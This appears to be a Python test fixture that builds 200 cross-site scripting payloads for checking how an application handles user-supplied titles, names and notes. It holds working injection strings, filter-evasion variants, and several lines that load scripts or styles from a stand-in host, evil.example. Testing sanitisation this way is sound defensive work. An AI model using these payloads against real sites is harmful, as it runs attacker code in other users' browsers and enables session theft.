"""What somebody might write into a title, a name, a body or a note to have it run in a reader's browser."""

from __future__ import annotations

from itertools import cycle, islice

_CALL = "xss()"
_FORMS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<marquee onstart={}>x</marquee>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style onload={}></style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "{{{{7*7}}}}{}",
    "{{% raw %}}{}",
    "${{{}}}",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    "` onmouseover={} x=`",
    '" autofocus onfocus={} "',
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=`x` onerror={}>",
    "<x onclick={} tabindex=1>x</x>",
    '<a href="#" onclick={}>x</a>',
    "\u2028<script>{}</script>",
    "\x00<script>{}</script>",
    "\u202e<script>{}</script>",
    "<p style='background:url(javascript:{})'>",
    "<div style='width:expression({})'>",
    "<isindex action=javascript:{} type=image>",
    "</bdi></a></p><script>{}</script>",
    '"}}</script><script>{}</script>',
)
_CALLS = (_CALL, "alert(1)&&xss()", "window['xss']()", "top.xss()")

PAYLOADS = tuple(islice(dict.fromkeys(form.format(call) for call in _CALLS for form in _FORMS), 200))
assert len(PAYLOADS) == 200


def payloads(count: int) -> list[str]:
    """So many of them, in turn."""
    return list(islice(cycle(PAYLOADS), count))
